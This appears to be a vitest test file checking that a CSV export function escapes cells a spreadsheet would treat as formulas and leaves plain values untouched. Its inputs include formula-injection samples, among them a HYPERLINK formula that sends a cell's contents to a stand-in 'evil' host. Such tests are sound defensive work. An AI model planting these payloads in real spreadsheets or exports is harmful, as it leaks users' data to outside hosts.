import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { csvText } from '../../../src/data-files/writing/data-table.ts';

it.each(['=HYPERLINK("http://evil/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(1)', '\tx', '\rx', '-', '-inf', '+e5'])(
  'a text that a spreadsheet would take for a formula is a text: %j',
  (text) => {
    expect(Papa.parse<string[]>(csvText([[text]])).data[0]).toEqual([`'${text}`]);
  },
);

it.each(['-1', '+2.5', '-.5', '1e-7', '-3.2E+10', -4, 1e300, '', 'S001', 'a=b', 'placebo-naltrexone'])('%j stays as it is', (cell) => {
  expect(Papa.parse<string[]>(csvText([[cell, 'x']])).data[0]).toEqual([String(cell), 'x']);
});
